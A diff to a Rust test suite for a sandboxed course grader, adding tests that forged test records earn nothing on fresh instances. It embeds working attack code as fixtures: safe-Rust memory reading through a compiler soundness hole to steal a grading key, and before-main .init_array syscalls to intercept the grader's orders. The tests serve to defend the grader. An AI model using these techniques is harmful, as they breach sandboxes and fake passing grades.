@@ -433,8 +433,9 @@ fn spawned_processes_never_start_and_none_survive() {
 #[test]
 fn a_memory_bomb_gets_the_memory_limit_verdict() {
     let (_tmp, dir) = practice();
-    let attack =
-        r#"let mut hog: Vec<Vec<u8>> = Vec::new(); loop { hog.push(vec![7u8; 64 << 20]); }"#;
+    // Reserved, not filled: the limit bounds the address space for data, and a bomb that first fills
+    // its pages would race the driver's hang watch (1.2 s without a step) on a loaded machine.
+    let attack = r#"let mut hog: Vec<Vec<u8>> = Vec::new(); loop { hog.push(Vec::with_capacity(64 << 20)); }"#;
     write_loop(&dir, &solution_starting_with(attack));
     let (code, report) = grade_json(&dir, &["--group", "7.1", "--memory-limit", "256M"]);
     if !sandboxed(&report) {
@@ -790,30 +791,33 @@ fn huge_panic_messages_and_floods_of_output_give_bounded_reports() {
     if !sandboxed(&report) {
         return;
     }
-    // The attack ran in every test: its message starts every failure.
+    // The attack ran: its panic reached the grader (a test that took longer to print and panic than
+    // the driver's hang watch allows is judged hung instead), each string of its step cut to 64 KiB as
+    // the grader read it, and the evidence kept no more.
     let tests = report_tests(&report);
     assert!(tests.len() > 20, "{report:#}");
-    let messages: Vec<&str> = tests
-        .iter()
-        .map(|(_, t)| t["message"].as_str().unwrap_or_default())
-        .collect();
-    for message in &messages {
-        assert!(message.contains("FLOOD-PREFIX xxx"), "{:.300}", message);
+    let panics = panic_texts(&dir);
+    assert!(
+        panics.iter().any(|p| p.starts_with("FLOOD-PREFIX xxx")),
+        "the flood's panic arrived: {panics:.300?}"
+    );
+    for panic in &panics {
+        assert!(
+            panic.len() < 80 << 10,
+            "a panic kept whole: {} bytes",
+            panic.len()
+        );
     }
-    // Each message is cut, and says so; and all of them together are.
-    assert!(
-        messages[0].contains("a test's message keeps at most 16 KiB"),
-        "{:.300}",
-        &messages[0][messages[0].len() - 300..]
-    );
-    assert!(
-        messages
-            .last()
-            .unwrap()
-            .contains("keep at most 192 KiB together"),
-        "{}",
-        messages.last().unwrap()
-    );
+    // Every test failed, with a message that quotes at most the panic's start.
+    for (_, test) in &tests {
+        assert_eq!(test["status"], "fail", "{test:.300}");
+        let message = test["message"].as_str().unwrap_or_default();
+        assert!(
+            message.len() <= 16 << 10,
+            "{} bytes: {message:.300}",
+            message.len()
+        );
+    }
     let json_bytes = out.stdout.len();
     let junit_bytes = fs::metadata(&junit).unwrap().len();
     eprintln!("report sizes: JSON {json_bytes} bytes, JUnit {junit_bytes} bytes; grader peak ≥ {peak_kib} KiB");
@@ -947,7 +951,8 @@ fn learner_code_has_no_capability_even_when_graded_as_root() {
     if !sandboxed(&report) {
         return;
     }
-    let message = report["groups"][0]["tests"][0]["message"].as_str().unwrap();
+    // The verdict's message quotes the panic's start; the trace the grader kept holds all of it.
+    let message = &panic_texts(&dir)[0];
     eprintln!("graded as root: {}; {message}", is_root());
     assert!(message.contains("PRIVILEGE made=Ok(())"), "{message}");
     // Giving a file away needs CAP_CHOWN; changing the root directory, CAP_SYS_CHROOT.
@@ -958,6 +963,19 @@ fn learner_code_has_no_capability_even_when_graded_as_root() {
     // comes of it (a set-user-id bit means nothing without exec, and nothing may be executed there).
     assert!(message.contains("socket=Ok(())"), "{message}");
     assert!(message.contains("setuid=Ok(\"106755\")"), "{message}");
+}
+
+/// The text of every panic the last grade's failing tests recorded, in the order of its evidence
+/// (`.pi-course/last-traces.json`): whole, where a verdict's message quotes only its start.
+fn panic_texts(dir: &Path) -> Vec<String> {
+    let text = fs::read_to_string(dir.join(".pi-course/last-traces.json")).unwrap();
+    let last: Value = serde_json::from_str(&text).unwrap();
+    let steps = last["tests"].as_array().unwrap().iter();
+    let steps = steps.flat_map(|t| t["trace"].as_array().unwrap().clone());
+    steps
+        .filter(|s| s["kind"] == "panic")
+        .map(|s| s["message"].as_str().unwrap_or_default().to_string())
+        .collect()
 }
 
 /// Grades `code` (group 7.1) and returns its report, each test checked to have failed with a message of
@@ -1016,4 +1034,658 @@ fn panics_in_drop_panic_hooks_and_aborts_each_get_their_own_verdict() {
     );
     let report = grade_attack(&dir, &abort_at_end, "ABORT-AT-END").unwrap();
     assert!(report.to_string().contains("SIGABRT"), "{report:#}");
+}
+
+// ---------------------------------------------------------------------------------------------------
+// Forged traces: code that holds the key and the channel (docs/SECURITY.md, "Forged traces")
+// ---------------------------------------------------------------------------------------------------
+
+/// The answers a forger can know, as a forger carries them: one line per step, `test\tstep` (the step as
+/// JSON), each test's steps together and in order. Each test's steps are the trace its expected graph
+/// asks for: its first alternative's steps in order, every freedom filled in. `file` is an
+/// `expected.json` (tests with `group` and `name`) or a `last-traces.json` (full `name`); `only` keeps
+/// the tests whose name starts with one of its prefixes.
+fn answer_lines(file: &Value, only: &[&str]) -> String {
+    let mut lines = String::new();
+    for test in file["tests"].as_array().unwrap() {
+        let name = test["name"].as_str().unwrap();
+        let name = match test["group"].as_str() {
+            Some(group) => format!("{}::{name}", group.replace('-', "_")),
+            None => name.to_string(),
+        };
+        if !only.iter().any(|prefix| name.starts_with(prefix)) {
+            continue;
+        }
+        let mut bound = std::collections::HashMap::new();
+        let steps = test["expected"]["alternatives"][0]["steps"]
+            .as_array()
+            .unwrap();
+        for step in steps.iter().filter_map(|s| fill(&s["match"], &mut bound)) {
+            lines.push_str(&format!("{name}\t{step}\n"));
+        }
+    }
+    lines
+}
+
+/// A value `pattern` matches (docs/JUDGE.md, its `$` nodes); `None` where it allows a missing key.
+fn fill(pattern: &Value, bound: &mut std::collections::HashMap<String, Value>) -> Option<Value> {
+    let node = match pattern {
+        Value::Array(items) => {
+            let items = items.iter().map(|v| fill(v, bound).unwrap_or(Value::Null));
+            return Some(Value::Array(items.collect()));
+        }
+        Value::Object(node) => node,
+        other => return Some(other.clone()),
+    };
+    if node.contains_key("$any") || node.contains_key("$absent_or") {
+        return None;
+    }
+    if node.contains_key("$text") {
+        return Some("forged".into());
+    }
+    if let Some(carried) = node.get("$carries") {
+        return Some(carried.clone());
+    }
+    if let Some(first) = node.get("$one_of").and_then(|o| o.get(0)) {
+        return Some(first.clone());
+    }
+    if let Some(name) = node.get("$bind").and_then(Value::as_str) {
+        if let Some(value) = bound.get(name) {
+            return Some(value.clone());
+        }
+        let value = fill(&node["$match"], bound)?;
+        bound.insert(name.to_string(), value.clone());
+        return Some(value);
+    }
+    let fields = node
+        .iter()
+        .filter_map(|(k, v)| Some((k.clone(), fill(v, bound)?)));
+    Some(Value::Object(fields.collect()))
+}
+
+/// The practice directory's `expected.json`.
+fn fixed(dir: &Path) -> Value {
+    let text = fs::read_to_string(dir.join("tests/ch07/expected.json")).unwrap();
+    serde_json::from_str(&text).unwrap()
+}
+
+/// Every test of chapter 07 (the prefix of every test name).
+const ALL: &[&str] = &[""];
+
+/// The forger's side: `answers` as Rust (the lines of [`answer_lines`]) and the records it makes of them.
+fn carried(answers: &str) -> String {
+    assert!(!answers.contains("\"####"));
+    format!(
+        r#####"
+/// The answers this forger carries: `test\tstep` lines.
+const ANSWERS: &str = r####"{answers}"####;
+
+mod records {{
+    /// Each test of `answers` with its steps, in order.
+    pub fn tests(answers: &str) -> Vec<(&str, Vec<&str>)> {{
+        let mut tests: Vec<(&str, Vec<&str>)> = Vec::new();
+        for (test, step) in answers.lines().filter_map(|l| l.split_once('\t')) {{
+            match tests.last_mut() {{
+                Some((last, steps)) if *last == test => steps.push(step),
+                _ => tests.push((test, vec![step])),
+            }}
+        }}
+        tests
+    }}
+
+    /// One record, as the harness would write it (test names need no escaping).
+    pub fn record(key: &str, event: &str, test: &str, step: Option<&str>) -> String {{
+        match step {{
+            Some(step) => format!("{{{{\"key\":\"{{key}}\",\"event\":\"{{event}}\",\"test\":\"{{test}}\",\"step\":{{step}}}}}}\n"),
+            None => format!("{{{{\"key\":\"{{key}}\",\"event\":\"{{event}}\",\"test\":\"{{test}}\"}}}}\n"),
+        }}
+    }}
+}}
+"#####
+    )
+}
+
+/// The forgery through a soundness hole of the compiler (rust-lang/rust#25860), in safe Rust that
+/// `#![forbid(unsafe_code)]` accepts: it reads any memory, finds the grade's key in the harness's heap,
+/// turns descriptor 4 into a `File`, writes every test's records with the answers it carries, and ends
+/// the process.
+const SOUNDNESS_HOLE_FORGERY: &str = r#"
+mod forgery {
+    use std::io::Write;
+    use std::os::unix::fs::FileExt;
+
+    // The implied bound 'b: 'a of `&'a &'b ()` is lost when `extend` becomes a higher-ranked fn
+    // pointer: any borrow can be made to live as long as the caller likes.
+    static UNIT: &&() = &&();
+    fn extend<'a, 'b, T: ?Sized>(_: &'a &'b (), v: &'b mut T) -> &'a mut T {
+        v
+    }
+    fn forever<'a, 'b, T: ?Sized>(v: &'a mut T) -> &'b mut T {
+        let f: for<'x> fn(_, &'x mut T) -> &'b mut T = extend;
+        f(UNIT, v)
+    }
+
+    enum Either<A, B> {
+        A(#[allow(dead_code)] Option<Box<A>>),
+        B(Option<Box<B>>),
+    }
+
+    /// `std::mem::transmute` without `unsafe`: a borrow of the `B` outlives the enum's switch to `A`.
+    #[inline(never)]
+    fn transmute<A, B>(a: A) -> B {
+        let mut either = std::hint::black_box(Either::<A, B>::B(None));
+        let Either::B(b) = &mut either else { unreachable!() };
+        let b = forever(b);
+        either = Either::A(Some(Box::new(a)));
+        std::hint::black_box(&mut either);
+        *b.take().unwrap()
+    }
+
+    static MARK: std::sync::atomic::AtomicU8 = std::sync::atomic::AtomicU8::new(0);
+
+    /// Every 32-hex-digit string of the main heap, which holds the harness's key. The heap starts
+    /// within 1 GiB above the executable's data; a page can be read where `pwrite` can copy from it.
+    fn keys() -> Vec<String> {
+        let probe = std::fs::File::create("probe").unwrap();
+        let readable = |at: usize| probe.write_at(transmute::<usize, &[u8; 1]>(at), 0).is_ok();
+        let mut page = (&MARK as *const _ as usize) & !4095;
+        while readable(page) {
+            page += 4096;
+        }
+        let Some(mut page) = (1..(1 << 14) + 1024).map(|i| page + (i << 16)).find(|&p| readable(p)) else {
+            return Vec::new();
+        };
+        while readable(page - 4096) {
+            page -= 4096;
+        }
+        let mut heap = Vec::new();
+        while readable(page) && heap.len() < 256 << 20 {
+            heap.extend_from_slice(transmute::<usize, &[u8; 4096]>(page));
+            page += 4096;
+        }
+        let mut keys: Vec<String> = Vec::new();
+        for run in heap.split(|b| !b.is_ascii_hexdigit()).filter(|run| run.len() == 32) {
+            let key = String::from_utf8_lossy(run).into_owned();
+            if !keys.contains(&key) {
+                keys.push(key);
+            }
+        }
+        keys
+    }
+
+    /// Under every key found: each test started, its steps, finished. Then the process ends.
+    pub fn forge() -> ! {
+        let keys = keys();
+        let mut channel = transmute::<i32, std::fs::File>(4);
+        let mut sent = 0;
+        for key in &keys {
+            for (test, steps) in super::records::tests(super::ANSWERS) {
+                let mut lines = vec![super::records::record(key, "started", test, None)];
+                lines.extend(steps.iter().map(|s| super::records::record(key, "step", test, Some(s))));
+                lines.push(super::records::record(key, "finished", test, None));
+                for line in lines {
+                    sent += channel.write_all(line.as_bytes()).is_ok() as usize;
+                }
+            }
+        }
+        println!("FORGED {sent} records under {} keys", keys.len());
+        std::process::exit(0)
+    }
+}
+"#;
+
+/// The skeleton that, first thing, forges every test's records with `answers` (the lines of
+/// [`answer_lines`]) through the soundness hole.
+fn soundness_hole_forger(answers: &str) -> String {
+    format!(
+        "{}\n{}\n{SOUNDNESS_HOLE_FORGERY}",
+        skeleton_starting_with("forgery::forge();"),
+        carried(answers)
+    )
+}
+
+/// The system prompt of each instance of `file` (an `expected.json`, or the expected traces of a
+/// `last-traces.json`), by test name: text that only a replay of those instances' answers can put in a
+/// trace (a fresh instance has a prompt of its own).
+fn prompts_of(file: &Value) -> std::collections::BTreeMap<String, String> {
+    file["tests"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| {
+            let name = t["name"].as_str().unwrap();
+            let name = match t["group"].as_str() {
+                Some(group) => format!("{}::{name}", group.replace('-', "_")),
+                None => name.to_string(),
+            };
+            let first = &t["expected"]["alternatives"][0]["steps"][0]["match"];
+            let prompt = match t["instance"]["system_prompt"].as_str() {
+                Some(prompt) => prompt,
+                None => first["system_prompt"].as_str().unwrap_or_default(),
+            };
+            (name, prompt.to_string())
+        })
+        .collect()
+}
+
+/// The last grade's evidence (`.pi-course/last-traces.json`): its seed and each failing test's entry.
+fn last_traces(dir: &Path) -> Value {
+    let text = fs::read_to_string(dir.join(".pi-course/last-traces.json")).unwrap();
+    serde_json::from_str(&text).unwrap()
+}
+
+/// The failing tests of the last grade whose trace opens with a request carrying `prompts[test]`: the
+/// tests whose trace a forgery wrote (the loop under test never asks the model anything).
+fn traces_opening_with(dir: &Path, prompts: &std::collections::BTreeMap<String, String>) -> usize {
+    let last = last_traces(dir);
+    let tests = last["tests"].as_array().unwrap();
+    tests
+        .iter()
+        .filter(|t| {
+            let first = &t["trace"][0];
+            let name = t["name"].as_str().unwrap();
+            first["kind"] == "request"
+                && prompts
+                    .get(name)
+                    .is_some_and(|p| !p.is_empty() && first["system_prompt"] == *p)
+        })
+        .count()
+}
+
+/// How many tests of a report passed.
+fn passed(report: &Value) -> usize {
+    report_tests(report)
+        .iter()
+        .filter(|(_, t)| t["status"] == "pass")
+        .count()
+}
+
+#[test]
+fn a_soundness_hole_forgery_with_the_practice_answers_earns_nothing_on_fresh_instances() {
+    let (_tmp, dir) = practice();
+    let fixed = fixed(&dir);
+    let prompts = prompts_of(&fixed);
+    write_loop(&dir, &soundness_hole_forger(&answer_lines(&fixed, ALL)));
+    let (code, report) = grade_json(&dir, &["--lang", "en"]);
+    if !sandboxed(&report) {
+        return;
+    }
+    assert_ran(&report);
+    // It ran: the traces the grader judged are the forged ones, answering the fixed instances, and the
+    // messages show their steps.
+    let forged = traces_opening_with(&dir, &prompts);
+    let total = report_tests(&report).len();
+    eprintln!("forged traces judged: {forged} of {total}");
+    assert!(
+        forged > 0,
+        "the forgery's records never arrived: {report:#}"
+    );
+    let caller_texts: Vec<&str> = fixed["tests"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|t| t["instance"]["caller"][0]["content"][0]["text"].as_str())
+        .collect();
+    assert!(
+        report_tests(&report).iter().any(|(_, t)| {
+            let message = t["message"].as_str().unwrap_or_default();
+            caller_texts.iter().any(|text| message.contains(text))
+        }),
+        "a message shows a forged step: {report:#}"
+    );
+    // It got nothing: no test passes, no point is earned.
+    assert_eq!(code, 1, "{report:#}");
+    assert_nothing_passed(&report);
+    assert_eq!(report["score"].as_f64(), Some(0.0), "{report:#}");
+
+    // The same forgery graded on the very instances it answers (the practice directory's seed, which
+    // only a replay asks for): its records are taken as traces and pass. It is a working forgery; only
+    // instances first seen at grade time stop it.
+    let seed = fixed["seed"].to_string();
+    let (_, replayed) = grade_json(&dir, &["--lang", "en", "--seed", &seed]);
+    eprintln!(
+        "with the practice seed {seed}: {} of {} pass",
+        passed(&replayed),
+        report_tests(&replayed).len()
+    );
+    assert!(passed(&replayed) > 0, "{replayed:#}");
+}
+
+/// Grades `dir` with a debug build's replacements of given files (`replace`: path → contents), the
+/// attack tests' way to give learner code what no grade gives it (`PI_COURSE_TEST_REPLACE_GIVEN`).
+fn grade_test_build(dir: &Path, replace: &[(String, String)], args: &[&str]) -> (i32, Value) {
+    let given = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    for (path, text) in replace {
+        let at = given.path().join(path);
+        fs::create_dir_all(at.parent().unwrap()).unwrap();
+        fs::write(at, text).unwrap();
+    }
+    let out = pi_course(dir)
+        .env("PI_COURSE_TEST_REPLACE_GIVEN", given.path())
+        .args(["grade", ".", "--format", "json"])
+        .args(args)
+        .output()
+        .unwrap();
+    let report: Value = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("one JSON document ({e}): {}", describe(&out)));
+    assert_schema(&report);
+    (out.status.code().unwrap(), report)
+}
+
+/// `dir`'s given file `path` with `find` replaced (once) by `with`.
+fn patched(dir: &Path, path: &str, find: &str, with: &str) -> (String, String) {
+    let text = fs::read_to_string(dir.join(path)).unwrap();
+    assert_eq!(text.matches(find).count(), 1, "{path}: {find}");
+    (path.to_string(), text.replacen(find, with, 1))
+}
+
+/// The test build that hands the key and the channel to the code under test: the harness puts the key
+/// in the environment once it has read its orders, and the practice crate allows `unsafe`, so the loop
+/// can own descriptor 4.
+fn handing_over(dir: &Path) -> Vec<(String, String)> {
+    vec![
+        patched(
+            dir,
+            "harness/src/lib.rs",
+            "    let channel = Arc::new(Mutex::new(Channel {",
+            "    std::env::set_var(\"PI_COURSE_TEST_HANDED_KEY\", key);\n    let channel = Arc::new(Mutex::new(Channel {",
+        ),
+        patched(dir, "src/lib.rs", "#![forbid(unsafe_code)]", ""),
+    ]
+}
+
+/// A forger handed the key and the channel. Unless `silent`, it writes every test's records in one of
+/// four ways, by the test's place `i` among the answers: `i % 4 == 0` its answer as is; `1` no step at
+/// all; `2` its answer labelled as the next test's steps; `3` its answer before the test's `started`.
+/// Then the process ends.
+const HANDED_FORGERY: &str = r#"
+mod handed {
+    use std::io::Write;
+    use std::os::fd::FromRawFd;
+
+    pub fn forge(silent: bool) -> ! {
+        use super::records::record;
+        let key = std::env::var("PI_COURSE_TEST_HANDED_KEY").expect("this test build hands over the key");
+        // SAFETY: this test build allows `unsafe`; descriptor 4 is the grader's channel, left open.
+        let mut channel = std::mem::ManuallyDrop::new(unsafe { std::fs::File::from_raw_fd(4) });
+        let mut send = |line: String| {
+            let _ = channel.write_all(line.as_bytes());
+        };
+        let tests = super::records::tests(super::ANSWERS);
+        for (i, (test, steps)) in tests.iter().enumerate().filter(|_| !silent) {
+            let next = tests[(i + 1) % tests.len()].0;
+            match i % 4 {
+                0 => {
+                    send(record(&key, "started", test, None));
+                    steps.iter().for_each(|s| send(record(&key, "step", test, Some(s))));
+                    send(record(&key, "finished", test, None));
+                }
+                1 => {
+                    send(record(&key, "started", test, None));
+                    send(record(&key, "finished", test, None));
+                }
+                2 => {
+                    send(record(&key, "started", test, None));
+                    steps.iter().for_each(|s| send(record(&key, "step", next, Some(s))));
+                    send(record(&key, "finished", test, None));
+                }
+                _ => {
+                    steps.iter().for_each(|s| send(record(&key, "step", test, Some(s))));
+                    send(record(&key, "started", test, None));
+                    send(record(&key, "finished", test, None));
+                }
+            }
+        }
+        println!("HANDED-OVER silent={silent} key={}", key.len());
+        std::process::exit(0)
+    }
+}
+"#;
+
+#[test]
+fn handed_the_key_and_the_channel_forged_records_earn_nothing_on_fresh_instances() {
+    let (_tmp, dir) = practice();
+    let fixed = fixed(&dir);
+    let prompts = prompts_of(&fixed);
+    let graded = ["plain_stop::", "single_tool::"];
+    let answers = answer_lines(&fixed, &graded);
+    let order: Vec<&str> = answers.lines().map(|l| l.split('\t').next().unwrap()).fold(
+        Vec::new(),
+        |mut order, test| {
+            if order.last() != Some(&test) {
+                order.push(test);
+            }
+            order
+        },
+    );
+    let build = handing_over(&dir);
+    let forger = |statement: &str| {
+        format!(
+            "{}\n{}\n{HANDED_FORGERY}",
+            skeleton_starting_with(statement),
+            carried(&answers)
+        )
+    };
+    write_loop(&dir, &forger("handed::forge(false);"));
+    let groups = ["--group", "7.1", "--group", "7.2", "--lang", "en"];
+
+    // On the instances whose answers it holds, the records are taken exactly as the protocol says:
+    // a test's answer between its `started` and `finished` passes; no step, the answer under another
+    // test's name, or the answer before `started`, passes nothing.
+    let seed = fixed["seed"].to_string();
+    let (_, known) = grade_test_build(&dir, &build, &[&groups[..], &["--seed", &seed]].concat());
+    if !sandboxed(&known) {
+        return;
+    }
+    assert_ran(&known);
+    let tests = report_tests(&known);
+    assert_eq!(tests.len(), order.len(), "{known:#}");
+    for (_, test) in &tests {
+        let name = test["name"].as_str().unwrap();
+        let way = order.iter().position(|n| *n == name).unwrap() % 4;
+        let want = if way == 0 { "pass" } else { "fail" };
+        assert_eq!(test["status"], want, "{name} (way {way}): {test:#}");
+    }
+
+    // On instances first seen at grade time: nothing.
+    let (code, fresh) = grade_test_build(&dir, &build, &groups);
+    assert_ran(&fresh);
+    assert!(
+        traces_opening_with(&dir, &prompts) > 0,
+        "the forged answers were judged: {fresh:#}"
+    );
+    assert_eq!(code, 1, "{fresh:#}");
+    assert_nothing_passed(&fresh);
+
+    // Writing nothing and ending the process: nothing.
+    write_loop(&dir, &forger("handed::forge(true);"));
+    let (code, silent) = grade_test_build(&dir, &build, &groups);
+    assert_eq!(code, 1, "{silent:#}");
+    assert_nothing_passed(&silent);
+    for (_, test) in report_tests(&silent) {
+        let message = test["message"].as_str().unwrap();
+        assert!(
+            message.contains("HANDED-OVER silent=true key=32"),
+            "{message}"
+        );
+    }
+}
+
+/// Code that runs before `main`: a naked function, which `#![forbid(unsafe_code)]` lets through, makes
+/// system calls from safe code, and its assembly puts `first` in `.init_array`. `first` reads the orders
+/// on descriptor 3 before the harness can, then writes, for every test they name, the answer it carries
+/// for that test, and last, as a step of its own, what it read for that test.
+const BEFORE_MAIN_FORGERY: &str = r#"
+#[cfg(all(target_os = "linux", target_arch = "x86_64"))]
+mod before_main {
+    /// System call `n` with three arguments.
+    #[unsafe(naked)]
+    pub extern "C" fn syscall(n: usize, a: usize, b: usize, c: usize) -> isize {
+        core::arch::naked_asm!(
+            ".pushsection .init_array,\"aw\"",
+            ".balign 8",
+            ".quad {first}",
+            ".popsection",
+            "mov rax, rdi",
+            "mov rdi, rsi",
+            "mov rsi, rdx",
+            "mov rdx, rcx",
+            "syscall",
+            "ret",
+            first = sym first,
+        )
+    }
+
+    pub extern "C" fn first() {
+        use super::records::record;
+        let (mut orders, mut buffer) = (Vec::new(), vec![0u8; 1 << 16]);
+        loop {
+            let n = syscall(0, 3, buffer.as_mut_ptr() as usize, buffer.len());
+            if n <= 0 {
+                break;
+            }
+            orders.extend_from_slice(&buffer[..n as usize]);
+        }
+        let orders = String::from_utf8_lossy(&orders).into_owned();
+        let mut lines = orders.lines();
+        let key = lines.next().unwrap_or_default().to_string();
+        let send = |line: String| {
+            syscall(1, 4, line.as_ptr() as usize, line.len());
+        };
+        let answers = super::records::tests(super::ANSWERS);
+        for line in lines.skip(1) {
+            let Some((test, _)) = line.split_once('\t') else { continue };
+            send(record(&key, "started", test, None));
+            for (_, steps) in answers.iter().filter(|(name, _)| *name == test) {
+                steps.iter().for_each(|s| send(record(&key, "step", test, Some(s))));
+            }
+            let seen = format!("{{\"kind\":\"orders_seen\",\"key\":\"{key}\",\"line\":{line:?}}}");
+            send(record(&key, "step", test, Some(&seen)));
+            send(record(&key, "finished", test, None));
+        }
+    }
+}
+"#;
+
+/// Checks the last grade of a before-`main` forgery: it ran (every failing test's trace ends with what
+/// it read, after the fixed instances' answers it wrote) and what it read was the key and the test's
+/// instance, fresh, never an expected trace.
+fn assert_saw_instances_only(dir: &Path, report: &Value) {
+    let prompts = prompts_of(&fixed(dir));
+    let last = last_traces(dir);
+    let tests = last["tests"].as_array().unwrap();
+    assert_eq!(tests.len(), report_tests(report).len(), "{report:#}");
+    assert!(
+        traces_opening_with(dir, &prompts) > 0,
+        "the forged answers were judged"
+    );
+    for test in tests {
+        let name = test["name"].as_str().unwrap();
+        let trace = test["trace"].as_array().unwrap();
+        let seen = trace
+            .iter()
+            .find(|s| s["kind"] == "orders_seen")
+            .unwrap_or_else(|| panic!("{name}: what it read is in its trace: {test:#}"));
+        let key = seen["key"].as_str().unwrap();
+        assert!(
+            key.len() == 32 && key.bytes().all(|b| b.is_ascii_hexdigit()),
+            "{key}"
+        );
+        let line = seen["line"].as_str().unwrap();
+        let (ordered, instance) = line.split_once('\t').unwrap();
+        assert_eq!(ordered, name);
+        let instance: Value = serde_json::from_str(instance).unwrap();
+        // A fresh instance, and nothing of an answer.
+        assert!(instance["turns"].is_array(), "{instance:#}");
+        assert_ne!(
+            instance["system_prompt"].as_str(),
+            prompts.get(name).map(String::as_str)
+        );
+        for answer in ["alternatives", "\"rule\"", "$bind", "\"after\""] {
+            assert!(!line.contains(answer), "{name}: the orders hold {answer}");
+        }
+    }
+}
+
+#[test]
+fn code_before_main_sees_instances_never_answers_and_earns_nothing() {
+    let (_tmp, dir) = practice();
+    let groups = ["--group", "7.1", "--lang", "en"];
+    let forgery = format!(
+        "{}\n{BEFORE_MAIN_FORGERY}",
+        carried(&answer_lines(&fixed(&dir), &["plain_stop::"]))
+    );
+    // The linker keeps `.init_array` entries of the objects it links: something linked names the
+    // naked function.
+    let named = "#[cfg(all(target_os = \"linux\", target_arch = \"x86_64\"))]\n    let _ = before_main::syscall as usize;";
+    // In the learner's file: refused before the build where the grader refuses such code, else it runs.
+    write_loop(
+        &dir,
+        &format!("{}\n{forgery}", skeleton_starting_with(named)),
+    );
+    let (code, report) = grade_json(&dir, &groups);
+    if !sandboxed(&report) {
+        return;
+    }
+    assert_eq!(code, 1, "{report:#}");
+    assert_nothing_passed(&report);
+    let message = report["message"].as_str().unwrap();
+    if report["status"] == "error" {
+        assert!(
+            message.contains("not allowed in the practice crate") && message.contains("naked"),
+            "refused for what it is: {message}"
+        );
+    } else {
+        assert_saw_instances_only(&dir, &report);
+    }
+
+    // In a given file of a test build, where no check of the learner's file reaches: it runs before
+    // `main`, and still earns nothing.
+    write_loop(&dir, &skeleton());
+    let (path, lib) = patched(
+        &dir,
+        "src/lib.rs",
+        "    Box::pin(agent_loop::run_agent_loop(options))",
+        &format!("    {named}\n    Box::pin(agent_loop::run_agent_loop(options))"),
+    );
+    let lib = (path, format!("{lib}\n{forgery}"));
+    let (code, report) = grade_test_build(&dir, &[lib], &groups);
+    assert_ran(&report);
+    assert_eq!(code, 1, "{report:#}");
+    assert_nothing_passed(&report);
+    assert_saw_instances_only(&dir, &report);
+}
+
+#[test]
+fn an_earlier_grades_answers_replayed_earn_nothing_on_a_fresh_grade() {
+    let (_tmp, dir) = practice();
+    // An earlier grade with seed S: its evidence holds the expected trace of every test it failed.
+    let earlier = "20260401";
+    let (_, report) = grade_json(&dir, &["--group", "7.1", "--seed", earlier]);
+    if !sandboxed(&report) {
+        return;
+    }
+    let last = last_traces(&dir);
+    assert_eq!(last["seed"], 20260401);
+    let count = last["tests"].as_array().unwrap().len();
+    assert_eq!(count, report_tests(&report).len(), "{report:#}");
+    let prompts = prompts_of(&last);
+    write_loop(&dir, &soundness_hole_forger(&answer_lines(&last, ALL)));
+    let (code, fresh) = grade_json(&dir, &["--group", "7.1", "--lang", "en"]);
+    assert_ran(&fresh);
+    assert!(
+        traces_opening_with(&dir, &prompts) > 0,
+        "the replayed answers were judged: {fresh:#}"
+    );
+    assert_eq!(code, 1, "{fresh:#}");
+    assert_nothing_passed(&fresh);
+
+    // Graded with seed S again, the replay passes: the answers were right, for that grade only.
+    let (_, again) = grade_json(&dir, &["--group", "7.1", "--seed", earlier]);
+    eprintln!(
+        "replayed on seed {earlier}: {} of {} pass",
+        passed(&again),
+        report_tests(&again).len()
+    );
+    assert!(passed(&again) > 0, "{again:#}");
 }
